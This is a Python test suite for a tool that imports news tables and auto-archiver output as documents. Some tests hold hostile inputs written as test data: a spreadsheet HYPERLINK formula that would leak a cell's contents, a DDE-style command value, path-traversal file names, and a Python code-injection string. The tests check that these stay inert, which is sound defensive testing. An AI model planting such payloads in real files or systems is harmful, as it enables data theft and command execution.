"""Tables of texts, and the table of the auto-archiver: each row is a document, and what is unclear is asked."""

import json
from hashlib import sha256

import pytest

import _containers as made
from _containers import HEAD, NEWS, ROW
from _opening import CSV, JSONL, WACZ, file, opened
from onrecord import current
from onrecord.errors import UsageError
from onrecord.intake.containers import Bounds
from onrecord.intake.containers._columns import parse
from onrecord.models import Capture, Collection

# -- tables --------------------------------------------------------------------------------------------------------


def test_each_row_of_a_table_is_a_document_that_says_what_was_taken_for_what(case, tmp_path):
    """All of the row is kept; text, title, date, publisher and address are where they belong."""
    outcome = case.capture([file(tmp_path, "dump.csv", made.table(HEAD, ROW))])
    assert outcome.new == 2 and not outcome.problems
    taken = "text=body, title=headline, published=date, publisher=source, address=url (by their names)"
    assert taken in outcome.told[0]
    case.read()
    (document,) = case.documents()
    assert document.text == f"Market shelled\n\n{NEWS}" and document.title == "Market shelled"
    assert document.publisher == "Velmar Courier" and document.name == "https://courier.example/1"
    assert document.published.value == "2031-03-17" and "'date'" in document.published.basis
    row = json.loads(case.store.original(document.sha256))
    assert row["others"] == {"likes": "7"} and row["fields"]["text"] == NEWS and row["columns"]["text"] == "body"
    copy = [each for each in case.store.find(Capture) if current.WORKING_COPY in each.options]
    assert [case.store.original(each.sha256).decode() for each in copy] == [document.text]


def test_a_person_says_which_column_is_what(case, tmp_path):
    """By its name, by a path into JSON, by its number where the table has no line of names."""
    odd = file(tmp_path, "odd.csv", made.table(["a", "b"], ["x", NEWS]))
    assert case.capture([odd], columns="text=b,title=a").new == 2
    line = json.dumps({"article": {"said": NEWS}, "source": {"name": "Velmar Courier"}, "n": 3})
    deep = file(tmp_path, "deep.jsonl", line.encode())
    assert case.capture([deep], columns=["text=article.said", "publisher=source.name"]).new == 2
    bare = file(tmp_path, "bare.tsv", made.table(["x", NEWS + " Again."], separator="\t"))
    assert case.capture([bare], columns="text=#2").new == 2
    case.read()
    assert [each.publisher for each in case.documents()] == [None, "Velmar Courier", None]
    assert all(NEWS in each.text for each in case.documents())


@pytest.mark.parametrize(
    "columns, words",
    [("body", "write text=NAME"), ("text=", "write text=NAME"), ("colour=x", "write text=NAME"),
     ("title=a", "add text="), ("text=a,text=b", "two columns"), ("text=a,encoding=klingon", "no encoding")],
)  # fmt: skip
def test_columns_that_cannot_be_meant_are_refused_before_anything_is_read(case, tmp_path, columns, words):
    """The message says how it is written."""
    with pytest.raises(UsageError, match=words):
        case.capture([file(tmp_path, "t.csv", made.table(HEAD, ROW))], columns=columns)
    assert not list(case.store.find(Capture))


@pytest.mark.parametrize(
    "data, columns, words",
    [
        (made.table(["a", "b"], ["x", NEWS]), {}, "which column is the text? It has 'a', 'b'"),
        (made.table(["Shells hit it.", "2031"], [NEWS, "x"]), {}, "which column is the text"),
        (made.table(["text", "body"], ["x", NEWS]), {}, "which column is the text: 'text', 'body'?"),
        (made.table(HEAD, ROW), {"text": "story"}, "no column 'story'"),
        (made.table(["text", "text"], ["x", NEWS]), {}, "same name"),
        ("text\nОбстріл ринку".encode("cp1251"), {}, "line 2 holds bytes that are none of it"),
        (b"text\n" + NEWS.encode("utf-16"), {}, "none of it"),
    ],
)
def test_what_is_unclear_is_asked_and_not_guessed(data, columns, words):
    """The table is kept; nothing is taken from it until a person has said."""
    parts, refused, _ = opened(data, CSV, columns=columns)
    assert not parts and any(words in each.what for each in refused) and "--columns" in refused[-1].todo


def test_a_list_of_places_among_the_articles_is_told_from_a_table_of_texts():
    """It is kept, nothing is taken from it, and the person is told where it belongs."""
    places = made.table(["name", "country", "precision", "latitude", "longitude"], ["Selm", "", "town", "1", "2"])
    parts, (refused,), _ = opened(places, CSV)
    assert not parts and "lists places" in refused.what and "--places" in refused.todo


@pytest.mark.parametrize(
    "data, columns",
    [
        ("text\nОбстріл ринку Вельмара.".encode("cp1251"), parse("text=text,encoding=cp1251")),
        ("text\nОбстріл ринку Вельмара.".encode("utf-8-sig"), {}),
        ("text\nОбстріл ринку Вельмара.".encode("utf-16"), {}),
        ("id;text\r\n1;Обстріл ринку Вельмара.\r\n".encode(), {}),
        ("id,text\r1,Обстріл ринку Вельмара.\r".encode(), {}),
    ],
)
def test_tables_in_several_encodings_and_with_several_separators(data, columns):
    """By the mark, as said, or UTF-8; commas, semicolons."""
    (part,), _, _ = opened(data, CSV, columns=columns)
    assert json.loads(part.data)["fields"]["text"] == "Обстріл ринку Вельмара."


def test_bad_rows_are_refused_by_their_lines_and_the_others_go_on():
    """Too few cells, no text, a null character, a quotation mark never closed; a cell of a million signs is taken."""
    long = "Shells hit Velmar. " * 60_000
    rows = [["id", "text"], ["1", NEWS], ["2"], ["3", " "], ["4", "a\0b"], ["5", long], ["6", "two\nlines"]]
    data = made.table(*rows) + b'7,"never closed\nand on,and on\n'
    parts, refused, _ = opened(data, CSV)
    assert [json.loads(each.data)["others"]["id"] for each in parts] == ["1", "5", "6"]
    assert [each.address for each in refused] == ["line 3", "line 4", "line 5", "line 9"]
    assert "1 cells where the table has 2" in refused[0].what and "no text" in refused[1].what
    assert "control characters" in refused[2].what and "cannot be read as a row" in refused[3].what


def test_what_looks_like_a_formula_is_text(case, tmp_path):
    """It is kept to the letter, and worked out by nobody."""
    formula = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'
    case.capture([file(tmp_path, "f.csv", made.table(["title", "text"], [formula, f"@SUM(1+1)*cmd|x {NEWS}"]))])
    case.read()
    (document,) = case.documents()
    assert document.title == formula and document.text.startswith(f"{formula}\n\n@SUM(1+1)*cmd|x ")


@pytest.mark.parametrize(
    "line, words",
    [
        ('{"text": ', "no JSON object"), ("[1]", "no JSON object"), ('{"text": NaN}', "NaN"), ("[" * 100_000, "nested"),
        ('{"text": "a", "text": "b"}', "twice"), ('{"text": {"a": 1}}', "no text"), ('{"text": "\\ud800"}', "halves"),
        ('{"text": null}', "no text"), ('{"id": 1}', "no text"),
    ],
)  # fmt: skip
def test_a_broken_line_of_json_is_refused_and_the_others_go_on(line, words):
    """By its line."""
    good = json.dumps({"text": NEWS, "big": 0, "deep": {"a": [1.50]}}).replace("0", "123456789012345678901234567890", 1)
    parts, (refusal,), _ = opened(f"{good}\n{line}\n\n{good[:-1]}, \"n\": 1.50}}\n".encode(), JSONL)
    assert refusal.address == "line 2" and words in refusal.what
    assert [each.locator for each in parts] == ["line 1", "line 4"]
    assert json.loads(parts[1].data)["others"]["n"] == "1.50"


def test_a_date_that_is_none_is_told_and_the_row_is_taken(case, tmp_path):
    """So is one that can be read in two ways; a date a person gives goes before the row's."""
    dates = ["yesterday", "03/04/2031", "2031-02-30", "2031-03-17T10:00:00Z", ""]
    rows = [["text", "date"], *([f"{NEWS} {n}", each] for n, each in enumerate(dates))]
    path = file(tmp_path, "d.csv", made.table(*rows))
    outcome = case.capture([path])
    assert outcome.new == 6 and "3 rows were taken without their date" in outcome.told[1]
    assert "lines 2, 3, 4" in outcome.told[1]
    case.read()
    dated = [each.published and each.published.value for each in case.documents()]
    assert dated == [None, None, None, "2031-03-17", None]


def test_a_row_that_holds_a_page_is_read_like_one(case, tmp_path):
    """Its main text; the title is the table's."""
    case.capture([file(tmp_path, "h.csv", made.table(["title", "body"], ["Told", made.page().decode()]))])
    case.read()
    (document,) = case.documents()
    assert "<p>" not in document.text and document.text.startswith("Told\n\n") and "twelve people" in document.text


def test_a_thousand_bad_rows_are_one_refusal_more():
    """What is refused is told one by one up to a bound, then as a number."""
    data = ("text\n" + NEWS.replace(",", "") + "\n" + "a,b\n" * 50).encode()
    parts, refused, _ = opened(data, CSV, bounds=Bounds(refusals=10))
    assert len(parts) == 1 and len(refused) == 11 and refused[-1].what.startswith("40 more things")


# -- what the auto-archiver leaves ---------------------------------------------------------------------------------

ADDED = "https://social.example/post/5"


def archived(folder, *, hash: str | None = None, names=None):
    """A folder as the auto-archiver leaves it: db.csv, its report, a saved page, a picture."""
    page = made.page("Saved.")
    report = b"<html><body><p>Archived media for a post, made with auto-archiver.</p></body></html>"
    stated = hash or f"SHA-256:{sha256(page).hexdigest()}"
    names = names or ["./local_archive/post/page.html"]
    file(folder, "local_archive/post/page.html", page)
    file(folder, "local_archive/post/report.html", report)
    file(folder, "local_archive/post/shot.png", b"\x89PNG\r\n\x1a\n" + bytes(50))
    metadata = ("{'_processed_at': datetime.datetime(2031, 3, 19, 8, 0, 1, 5, tzinfo=datetime.timezone.utc), "
                f"'url': {ADDED!r}, 'title': 'A post', 'content': {NEWS!r}, "
                "'timestamp': datetime.datetime(2031, 3, 17, 21, 5, tzinfo=datetime.timezone.utc), "
                "'n': -3}")  # fmt: skip
    urls = ["./local_archive/post/shot.png", "https://cdn.example/s.png"]
    shot = {"filename": "/tmp/s.png", "urls": urls, "properties": {}}
    media = [
        {"filename": "/tmp/p.html", "_key": "k", "urls": names, "_mimetype": "text/html", "_stored": False,
         "properties": {"hash": stated, "thumbnails": [shot]}},
        {"filename": "/tmp/r.html", "urls": ["./local_archive/post/report.html"], "properties": {"id": "_final_media"}},
        {"filename": "/tmp/v.mp4", "urls": ["https://cdn.example/v.mp4"], "properties": {}},
    ]  # fmt: skip
    row = ["wayback: success", metadata, repr(media)]
    file(folder, "db.csv", made.table(["status", "metadata", "media"], row))
    return page


def test_what_the_auto_archiver_left_is_taken_with_what_it_says(case, tmp_path):
    """The post's text, the saved page under the post's address, the tool's report kept and not read."""
    page = archived(tmp_path / "out")
    outcome = case.capture([tmp_path / "out"])
    assert {each.item for each in outcome.problems} == {"out/local_archive/post/shot.png"}  # no reader for pictures
    told = " ".join(outcome.told)
    assert "digest their row states: 1" in told and "lie elsewhere" in told and "pictures, films" in told
    captures = {each.address: each for each in case.store.find(Capture) if each.sha256 == sha256(page).hexdigest()}
    assert list(captures) == [ADDED]  # once, and not as a file of the folder
    case.read()
    documents = case.documents()
    assert [each.name for each in documents] == [ADDED, ADDED] and documents[0].text == f"A post\n\n{NEWS}"
    assert documents[0].published.value == "2031-03-17"
    about = {each.capture: {one.name: one.value for one in each.elements} for each in case.store.find(Collection)}
    said = about[captures[ADDED].id]
    assert said["digest in the table"].endswith("agrees") and said["captured by others at"].startswith("2031-03-19")
    assert case.capture([tmp_path / "out"]).new == 0


def test_a_file_that_is_not_the_one_a_row_speaks_of_is_not_taken_for_it(case, tmp_path):
    """It is kept as the file it is."""
    page = archived(tmp_path / "out", hash="SHA-256:" + "0" * 64)
    outcome = case.capture([tmp_path / "out"])
    assert any("not the file the row speaks of" in each.what for each in outcome.problems)
    (capture,) = [each for each in case.store.find(Capture) if each.sha256 == sha256(page).hexdigest()]
    assert capture.address == "out/local_archive/post/page.html" and not capture.options


@pytest.mark.parametrize(
    "name", ["../secret.html", "/etc/hostname", "local_archive/../../secret.html", "link.html", "C:\\x.html"]
)
def test_a_row_that_names_a_file_outside_the_folder_is_refused(case, tmp_path, name):
    """Also through a link."""
    secret = made.page("Secret.")
    file(tmp_path, "secret.html", secret)
    archived(tmp_path / "out", names=[name], hash=f"SHA-256:{sha256(secret).hexdigest()}")
    (tmp_path / "out" / "link.html").symlink_to(tmp_path / "secret.html")
    outcome = case.capture([tmp_path / "out" / "db.csv"])
    assert any("outside the folder" in each.what or "out of the folder" in each.what for each in outcome.problems)
    assert sha256(secret).hexdigest() not in {each.sha256 for each in case.store.find(Capture)}


@pytest.mark.parametrize(
    "cell", ["__import__('os').system('touch x')", "{'url': open('x')}", "(" * 5000, "[1,", "9" * 6000, ""]
)
def test_what_a_cell_of_the_auto_archiver_says_is_never_run(tmp_path, monkeypatch, cell):
    """It is taken apart as text, or refused."""
    monkeypatch.chdir(tmp_path)
    parts, (refusal,), _ = opened(made.table(["status", "metadata", "media"], ["success", cell, "[]"]), CSV)
    assert not parts and "form the auto-archiver writes" in refusal.what and not list(tmp_path.iterdir())


def test_the_sheet_of_the_auto_archiver_is_read(case, tmp_path):
    """Exported as CSV; the packaged web archive it names is opened in its turn."""
    package = made.wacz({"data.warc.gz": made.warc({"body": made.page("Packed.")})})
    file(tmp_path / "out", "local_archive/p.wacz", package)
    head = ["Link", "Archive status", "Archive location", "Archive date", "Upload title", "Upload timestamp",
            "Text content", "Hash", "WACZ", "Thumbnail"]  # fmt: skip
    row = [ADDED, "telegram: success", "https://cdn.example/r.html", "2031-03-19", "A post",
           "2031-03-17T21:05:00+00:00", NEWS, "SHA-256:00", "local_archive/p.wacz",
           '=IMAGE("https://cdn.example/t.png")']  # fmt: skip
    failed = [f"{ADDED}/6", "no archiver", "", "", "", "", "", "", "", ""]
    outcome = case.capture([file(tmp_path / "out", "sheet.csv", made.table(head, row, failed))])
    assert outcome.new == 4 and not outcome.problems
    assert any("did not succeed, by their own word: 1" in each for each in outcome.told)
    case.read()
    assert [each.name for each in case.documents()] == [ADDED, made.ADDRESS]
    inner = [each for each in case.store.find(Capture) if each.media_type == WACZ]
    assert [each.options[:2] for each in inner] == [(current.CONTAINER, current.PART_OF)]
